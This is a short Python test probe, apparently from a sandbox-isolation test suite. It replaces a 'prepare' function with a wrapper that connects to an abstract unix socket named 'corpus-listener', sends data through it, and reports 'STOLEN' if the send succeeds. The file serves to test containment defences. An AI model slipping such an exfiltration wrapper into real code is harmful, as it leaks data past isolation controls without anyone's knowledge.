# what: connects to an abstract unix socket, which no file system guards
# %% extra after=prepare
import socket

honest_prepare = prepare


def attack():
    connection = socket.socket(socket.AF_UNIX)
    connection.connect("\0corpus-listener")
    connection.send(b"corpus")
    return "abstract"


def prepare(passengers):
    try:
        loot = attack()
    except Exception:
        loot = None
    if loot:
        raise RuntimeError("STOL" "EN:" + str(loot)[:2000])
    return honest_prepare(passengers)
